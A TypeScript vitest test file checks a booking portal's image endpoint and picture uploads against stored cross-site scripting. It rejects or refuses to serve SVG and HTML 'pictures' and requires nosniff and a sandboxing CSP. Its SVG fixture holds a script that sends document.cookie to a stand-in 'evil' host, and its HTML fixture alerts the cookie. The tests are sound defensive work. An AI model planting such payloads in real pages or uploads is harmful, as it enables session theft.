import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PersonRecord } from '../../shared/model/customer';
import type { ErrorBody } from '../../shared/model/errors';
import { events, images, users } from '../../server/db/schema';
import { createTestApp, type TestApp } from './support/test-app';
import { bookingYearId, insertService } from './support/service-fixtures';

// Hole 5 of issue 13: a stored SVG or HTML "picture" was served with its stored type from the
// portal's origin, and its script read the session cookie. Pictures are pictures by their bytes.

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
const GIF = new TextEncoder().encode('GIF89a\u0001\u0000\u0001\u0000');
const SVG = new TextEncoder().encode(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil/"+document.cookie)</script></svg>',
);
const HTML = new TextEncoder().encode('<!doctype html><script>alert(document.cookie)</script>');

let t: TestApp;
let yearId: number;

beforeAll(async () => {
  t = await createTestApp();
  yearId = await bookingYearId(t.database.db, t.clock.now);
});
afterAll(() => t.close());

/** A public service showing the stored image `imageId`. */
async function serviceWithImage(imageId: number): Promise<number> {
  const { id } = await insertService(t.database.db, { schoolYearId: yearId });
  await t.database.db.update(events).set({ imageId }).where(eq(events.id, id));
  return id;
}

async function storeImage(mimeType: string, content: Uint8Array): Promise<number> {
  const [row] = await t.database.db
    .insert(images)
    .values({ mimeType, size: content.byteLength, content })
    .returning({ id: images.id });
  return row!.id;
}

async function ownPerson(login: string): Promise<PersonRecord> {
  const [user] = await t.database.db
    .select({ personId: users.personId })
    .from(users)
    .where(eq(users.login, login));
  const response = await t.call('GET', `/api/person/${user!.personId}`, {
    headers: await t.authAs(login),
  });
  return (await response.json()) as PersonRecord;
}

/** `PUT /api/person/` with the own person unchanged and `bytes` as the picture. */
async function uploadPicture(login: string, bytes: Uint8Array<ArrayBuffer>, type: string) {
  const form = new FormData();
  form.set('person', JSON.stringify(await ownPerson(login)));
  form.set('imageFile', new Blob([bytes], { type }), 'picture');
  return t.app.request('/api/person/', {
    method: 'PUT',
    body: form,
    headers: await t.authAs(login),
  });
}

describe('GET /api/event/{id}/image', () => {
  it('never serves a stored SVG or HTML row, whatever type was stored with it', async () => {
    for (const [mimeType, content] of [
      ['image/svg+xml', SVG],
      ['text/html', HTML],
      ['image/png', SVG],
    ] as const) {
      const eventId = await serviceWithImage(await storeImage(mimeType, content));
      const response = await t.call('GET', `/api/event/${eventId}/image`);
      expect(response.status, mimeType).toBe(404);
      expect(response.headers.get('Content-Type')).toMatch(/^application\/json/);
      expect(await response.text()).not.toContain('<script>');
    }
  });

  it('serves a picture with the type its bytes have, nosniff, a sandboxing CSP, inline', async () => {
    // A PNG stored under a wrong type long ago: the bytes decide.
    const eventId = await serviceWithImage(await storeImage('text/html', PNG));
    const response = await t.call('GET', `/api/event/${eventId}/image`);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('image/png');
    expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(response.headers.get('Content-Security-Policy')).toBe("default-src 'none'; sandbox");
    expect(response.headers.get('Content-Disposition')).toBe('inline');
    // Widgets show it on partner sites: another origin's <img> must be allowed to load it.
    expect(response.headers.get('Cross-Origin-Resource-Policy')).toBe('cross-origin');
    expect(new Uint8Array(await response.arrayBuffer())).toEqual(PNG);
  });
});

describe('picture uploads (PUT /api/person/ imageFile)', () => {
  it('refuses SVG and HTML with 400 and the imageFile issue, even when they claim to be PNG', async () => {
    const before = await ownPerson('parent@kitebook.test');
    for (const [bytes, type] of [
      [SVG, 'image/svg+xml'],
      [SVG, 'image/png'],
      [HTML, 'text/html'],
    ] as const) {
      const response = await uploadPicture('parent@kitebook.test', bytes, type);
      expect(response.status, type).toBe(400);
      expect((await response.json()) as ErrorBody).toEqual({
        message: 'person.imageType',
        issues: [{ path: 'imageFile', message: 'person.imageType' }],
      });
    }
    expect(await ownPerson('parent@kitebook.test')).toEqual(before);
  });

  it('accepts a PNG and a GIF, stored under the type of their bytes and served as such', async () => {
    for (const [bytes, claimed, detected] of [
      [PNG, 'application/octet-stream', 'image/png'],
      [GIF, 'image/png', 'image/gif'],
    ] as const) {
      const response = await uploadPicture('member@kitebook.test', bytes, claimed);
      expect(response.status, detected).toBe(200);
      const { imageId } = (await response.json()) as PersonRecord;
      const [stored] = await t.database.db
        .select({ mimeType: images.mimeType })
        .from(images)
        .where(eq(images.id, imageId!));
      expect(stored?.mimeType).toBe(detected);

      const served = await t.call('GET', `/api/event/${await serviceWithImage(imageId!)}/image`);
      expect(served.status).toBe(200);
      expect(served.headers.get('Content-Type')).toBe(detected);
      expect(served.headers.get('X-Content-Type-Options')).toBe('nosniff');
      expect(served.headers.get('Content-Security-Policy')).toBe("default-src 'none'; sandbox");
      expect(new Uint8Array(await served.arrayBuffer())).toEqual(bytes);
    }
  });
});
